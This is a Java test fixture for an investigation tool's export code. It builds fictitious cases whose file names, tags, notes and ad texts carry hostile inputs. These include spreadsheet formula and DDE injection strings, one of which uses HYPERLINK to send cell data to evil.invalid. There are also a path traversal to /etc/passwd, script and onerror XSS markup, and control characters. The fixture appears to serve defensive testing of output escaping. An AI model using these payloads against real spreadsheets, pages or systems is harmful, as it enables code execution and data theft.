package org.tracelab.core.export;

import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.tracelab.core.Case;
import org.tracelab.core.testing.TestCases;

/** A small case of fictitious items with hostile names, for the export tests. */
final class ExportCase {
    static final String PURPOSE = TestCases.purpose("Export lab");
    static final Instant AT = Instant.parse("2026-03-01T10:15:30.123Z");

    /** Sources a collector may really record: formula starters, path escapes, control characters, markup. */
    static final String[] HOSTILE_SOURCES = {
        "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
        "+998 90 000 00 00 (fictitious)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tleading tab",
        "\rleading carriage return",
        "../../../../etc/passwd",
        "/evidence/" + "x".repeat(300) + ".txt",
        "name with \u0000 nul, \n newline, \u001b[31m escape, \u202e rtl",
        "http://127.0.0.1/ad?<script>document.title='PWNED'</script>",
        "comma, \"quoted\" and\r\nline break",
    };

    /** Ads of {@link #createLinkedAds}: all share one fictitious phone, so they make one cluster. */
    static final int LINKED_ADS = 3;

    private ExportCase() {
    }

    /**
     * A new ingested case of {@link #LINKED_ADS} fictitious ads sharing a phone, with markup in their sources, in
     * their texts and around the phone and handle; each names a recruitment indicator.
     */
    static Case createLinkedAds(Path dir) throws IOException {
        Case c = TestCases.create(dir, "Linked ads", AT);
        List<TestCases.File> ads = new ArrayList<>();
        for (int i = 0; i < LINKED_ADS; i++) {
            String text = "Fictitious ad " + i + ": waiter abroad. On arrival the passport is kept by the employer "
                    + "for safety <img src=x onerror=\"document.title='PWNED'\">. Call <b>+998 90 000 00 0" + i
                    + "</b> or +998 (90) 111-22-33 <script>x()</script>, Telegram @fict_<i>recruiter</i>_bot.";
            ads.add(TestCases.File.text("/fictitious/<script>alert('svg')</script>-" + i + ".txt", text));
        }
        TestCases.store(c, AT, ads);
        c.ingest(org.tracelab.core.collect.Progress.NONE);
        return c;
    }

    /** A new case open for writing with one file item per hostile source, and one tagged item. */
    static Case create(Path dir) throws IOException {
        Case c = TestCases.create(dir, "Export lab", AT);
        List<TestCases.File> files = new ArrayList<>();
        for (int i = 0; i < HOSTILE_SOURCES.length; i++) {
            files.add(new TestCases.File(HOSTILE_SOURCES[i], "text/plain",
                    "fictitious content " + i + " <script>alert(1)</script>", Map.of("title", HOSTILE_SOURCES[i])));
        }
        long first = TestCases.store(c, AT, files).getFirst();
        c.tag(first, "=cmd|' /C calc'!A0");
        c.tag(first, "suspicious");
        c.note(first, "<img src=x onerror=\"document.title='PWNED'\"> <a href=\"javascript:alert(1)\">x</a>");
        return c;
    }
}
